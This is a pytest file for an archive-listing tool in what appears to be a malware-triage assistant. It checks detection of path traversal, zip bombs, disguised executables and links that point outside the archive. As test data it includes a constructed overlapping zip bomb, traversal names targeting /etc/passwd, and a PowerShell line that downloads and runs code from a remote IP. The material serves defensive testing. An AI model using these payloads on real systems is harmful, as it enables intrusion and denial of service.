"""archive_list: real archives and hostile ones, in memory alone."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from typing import Any

import pytest

from secgemini_jupyter.local_server.analyst.archives.listing import outside
from secgemini_jupyter.local_server.analyst.planner import make_plan, request_of
from secgemini_jupyter.local_server.analyst.tool import Attached, Call, ToolFailure
from secgemini_jupyter.local_server.analyst.toolbox import tools
from secgemini_jupyter.local_server.analyst.tools.archive_list import ArchiveArguments
from secgemini_jupyter.local_server.analyst.wishes import Wish
from tests.local_server.analyst.conftest import Ask
from tests.local_server.analyst.corpus import corpus
from tests.local_server.analyst.test_members import tarred, zipped

TOOL = tools()["archive_list"]


def listed(content: bytes, *about: str) -> dict[str, Any]:
    return TOOL.run(ArchiveArguments(file="x.zip", about=list(about)), {"x.zip": content})


def flags(result: dict[str, Any]) -> dict[str, list[str]]:
    return {row["name"]: row["flags"] for row in result["members"]}


@pytest.mark.parametrize(
    ("name", "kind", "members"),
    [
        ("clam.zip", "zip", ["clam.exe"]),
        ("clam.bz2.zip", "zip", ["clam.exe"]),
        ("clam.d64.zip", "zip", ["clam.exe"]),
        ("clam.tar.gz", "tar, packed with gzip", ["clam.exe"]),
        ("clam.exe.bz2", "bzip2", ["content"]),
        ("clam_cache_emax.tgz", "tar, packed with gzip", ["clam01.tgz", "clam02.tgz"]),
    ],
)
def test_real_archives(name: str, kind: str, members: list[str]) -> None:
    result = listed((corpus("clamav-testfiles") / name).read_bytes())
    assert (result["format"], [row["name"] for row in result["members"]]) == (kind, members)


def test_archives_within_archives_are_opened_two_levels_deep() -> None:
    result = listed((corpus("clamav-testfiles") / "clam_cache_emax.tgz").read_bytes())
    assert ["clam01.tgz", "clam02.tgz"] in [inner["path"] for inner in result["nested"]]
    assert max(len(inner["path"]) for inner in result["nested"]) == 2
    assert "nested too deep" in TOOL.answer(result, Wish())


@pytest.mark.parametrize("name", ["clam.7z", "clam.cab", "clam.newc.cpio", "clam.chm"])
def test_a_format_that_nothing_here_reads_is_named(name: str) -> None:
    answer = TOOL.answer(listed((corpus("clamav-testfiles") / name).read_bytes()), Wish())
    assert "cannot be listed here" in answer


def test_a_document_is_told_as_one_and_a_wheel_as_one() -> None:
    document = (corpus("oletools") / "tests/test-data/msodde/dde-test.docx").read_bytes()
    assert "Word document (a zip file)" in TOOL.answer(listed(document), Wish())
    assert listed(zipped(("x-1.dist-info/WHEEL", b"x")))["format"] == "whl"
    assert listed(zipped(("META-INF/MANIFEST.MF", b"x")))["format"] == "jar"


@pytest.mark.parametrize(
    "name", ["../x", "a/../../x", "/etc/passwd", "C:\\x", "c:x", "\\\\host\\share", "..\\x", "a\\..\\..\\x"]
)
def test_a_path_that_leads_out(name: str) -> None:
    assert outside(name)


@pytest.mark.parametrize("name", ["a/../b", "a/b", "..a", "a..b/c", "./a"])
def test_a_path_that_stays_inside(name: str) -> None:
    assert not outside(name)


def test_what_stands_out_in_names_and_contents() -> None:
    program = (corpus("clamav-testfiles") / "clam.exe").read_bytes()
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    buffer = io.BytesIO(
        zipped(
            ("../x", b"1"), ("a.pdf.exe", program), ("photo.jpg", program), ("in\u202ecod.txt", b"1"), ("ok.txt", b"1")
        )
    )
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(link, "../../etc/passwd")
    found = flags(listed(buffer.getvalue()))
    assert found["../x"] == ["path traversal: it climbs up with .."]
    assert found["a.pdf.exe"] == ["double extension", "a program (PE)"]
    assert found["photo.jpg"] == ["a program (PE)", "it is no jpg but executable/pe"]
    assert found["in\u202ecod.txt"] == ["its name has invisible characters"]
    assert found["link"] == ["a link that leads out of the archive"]
    assert found["ok.txt"] == []


def test_an_encrypted_member_is_told() -> None:
    result = listed((corpus("oletools") / "tests/test-data/rtfobj/issue_185.rtf.zip").read_bytes(), "encrypted")
    assert flags(result) == {"issue_185.rtf": ["encrypted"]}
    assert TOOL.answer(result, Wish()).startswith("**1 member**: `issue_185.rtf`")


def test_a_bomb_is_told_and_not_unpacked() -> None:
    result = listed(zipped(("zeros", bytes(2 * 2**20))), "bomb")
    assert "unpacks 1,0" in flags(result)["zeros"][0]
    assert "**Made like a zip bomb**" in TOOL.answer(result, Wish())
    assert "**Not made like a zip bomb**" in TOOL.answer(listed(zipped(("a", b"a")), "bomb"), Wish())


def overlapping(count: int) -> bytes:
    """A zip file whose members all have the same bytes, as the well-known bomb has."""
    packed = zlib.compress(bytes(10**6))[2:-4]
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(packed), 10**6, 1, 0) + b"0" + packed
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, 0, len(packed), 10**6, 1, 0, 0, 0, 0, 0, 0) + b"0"
        for _ in range(count)
    )
    return local + central + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(central), len(local), 0)


def test_members_that_share_their_bytes_are_told() -> None:
    result = listed(overlapping(40))
    assert any("39 members overlap others" in note for note in result["notes"])
    assert any("occur more than once" in note for note in result["notes"])


def test_a_header_that_contradicts_the_directory_is_told() -> None:
    content = zipped(("good.txt", b"x" * 50)).replace(b"good.txt", b"evil.exe", 1)
    assert flags(listed(content))["good.txt"] == ["its own header calls it `evil.exe`"]


def test_what_stands_before_and_after_is_told() -> None:
    content = zipped(("a", b"1"))
    (before,) = listed(content + b"tail")["notes"]
    assert before == "4 bytes after the zip file"


def test_links_and_devices_of_a_tar_file() -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind, target in [
            ("l", tarfile.SYMTYPE, "/etc"),
            ("h", tarfile.LNKTYPE, "../x"),
            ("p", tarfile.FIFOTYPE, ""),
        ]:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    out = "a link that leads out of the archive"
    assert flags(listed(buffer.getvalue())) == {"l": [out], "h": [out], "p": ["a device or pipe"]}


def test_a_cut_tar_file_is_listed_up_to_there() -> None:
    whole = tarred(("a", b"1"), ("b", b"2" * 2000), ("c", b"3"))
    result = listed(whole[:1800])
    assert [row["name"] for row in result["members"]] == ["a", "b"]
    assert result["notes"] == ["the file is cut or broken there"]


def test_a_compressed_tar_file_is_not_read_without_end() -> None:
    result = listed(gzip.compress(tarred(("zeros", bytes(12 * 2**20)))))
    assert any("unpack to" in note for note in result["notes"])


def test_no_archive() -> None:
    with pytest.raises(ToolFailure, match=r"This is no archive \(text\)"):
        listed(b"hello")
    with pytest.raises(ToolFailure, match="no end record"):
        listed(b"PK\3\4" + bytes(40))


@pytest.mark.slow  # a process that imports every library
def test_nothing_is_written_whatever_is_listed_or_looked_at() -> None:
    """An audit hook sees every file that is opened, by any library."""
    script = """
import sys, pathlib
from secgemini_jupyter.local_server.analyst.toolbox import tools
import msgspec, oletools.olevba, pypdf, pefile
written = []
def hook(event, arguments):
    if event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        written.append(arguments[0])
    elif event in ("os.mkdir", "os.rename", "os.remove", "subprocess.Popen", "os.system", "os.exec", "socket.connect"):
        written.append((event, arguments))
sys.addaudithook(hook)
for path in sys.argv[1:]:
    content = pathlib.Path(path).read_bytes()
    for name in ("archive_list", "file_triage"):
        tool = tools()[name]
        try:
            tool.run(msgspec.convert({"file": "x"}, tool.arguments), {"x": content})
        except Exception as error:
            assert type(error).__name__ == "ToolFailure", error
assert not written, written
"""
    clam, ole = corpus("clamav-testfiles"), corpus("oletools") / "tests/test-data"
    paths = [
        clam / "clam.zip",
        clam / "clam_cache_emax.tgz",
        clam / "clam.exe.bz2",
        clam / "clam-upx.exe",
        clam / "clam.pdf",
    ]
    paths += [ole / "oleform/oleform-PR314.docm", ole / "encrypted/dde-test-encrypt-standardpassword.xlsx"]
    done = subprocess.run([sys.executable, "-c", script, *paths], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


def test_what_stands_out_is_looked_at_next() -> None:
    program = (corpus("clamav-testfiles") / "clam.exe").read_bytes()
    document = (corpus("oletools") / "tests/test-data/msodde/dde-test.docx").read_bytes()
    result = listed(zipped(("a.txt", b"1"), ("d.docx", document), ("in.zip", zipped(("e.exe", program)))))
    calls = TOOL.then(request_of("What is in x.zip?", []), Call("archive_list", {"file": "x.zip"}, ""), result)
    assert [(call.tool, call.arguments["member"]) for call in calls] == [
        ("file_triage", ["in.zip", "e.exe"]),
        ("file_triage", ["d.docx"]),
    ]


@pytest.mark.parametrize(
    "asks",
    ["What is in x.zip?", "list the files", "is it a zip bomb?", "Is it safe to unpack?", "any executables in there?"],
)
def test_it_is_planned_for_archives(asks: str) -> None:
    plan = make_plan(request_of(asks, [Attached("x.zip", "archive/zip", 10)]))
    assert [call.tool for call in plan.calls] == ["archive_list"]


@pytest.mark.parametrize("asks", ["sha256?", "Defang http://evil.example/", "What is CWE-79?"])
def test_it_is_not_planned_for_other_questions(asks: str) -> None:
    plan = make_plan(request_of(asks, [Attached("x.zip", "archive/zip", 10)]))
    assert "archive_list" not in [call.tool for call in plan.calls]


@pytest.mark.anyio
async def test_a_part_that_the_user_names_is_taken_apart(ask: Ask) -> None:
    document = (corpus("oletools") / "tests/test-data/msodde/dde-test.docx").read_bytes()
    turn = await ask("Triage invoice.docx in mail.zip", {"mail.zip": zipped(("a/invoice.docx", document))})
    assert turn.tools == ["file_triage", "extract_iocs"]
    assert turn.answer.startswith("`mail.zip › a/invoice.docx` is a Word document")
    assert "DDEAUTO" in turn.answer


def test_of_very_many_members_all_are_counted_and_some_are_shown() -> None:
    result = listed(zipped(*((f"d/{n}.txt", b"1") for n in range(1_700))))
    assert (result["total"], result["types"], len(result["members"])) == (1_700, {"file": 1_700}, 1_500)
    assert "**1,700 members** (1,700 files)" in TOOL.answer(result, Wish())


@pytest.mark.anyio
@pytest.mark.parametrize(
    "asks",
    [
        "sha256 of x.exe in mail.zip",
        "Hash x.exe inside mail.zip",
        "sha256 of x.exe in the zip",
        "SHA-256 of deep/x.exe?",
    ],
)
async def test_the_hash_of_a_part_is_that_of_the_part(ask: Ask, asks: str) -> None:
    content = b"a program, not really"
    turn = await ask(asks, {"mail.zip": zipped(("in.zip", zipped(("deep/x.exe", content))), ("a.txt", b"1"))})
    assert turn.tools == ["hash_file"]
    assert hashlib.sha256(content).hexdigest() in turn.answer


@pytest.mark.anyio
async def test_what_a_part_does_is_told_of_the_part(ask: Ask) -> None:
    script = b"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\n"
    turn = await ask("Unzip it and tell me what run.ps1 does", {"mail.zip": zipped(("deep/run.ps1", script))})
    assert "file_triage" in turn.tools
    assert "text is run as code" in turn.answer
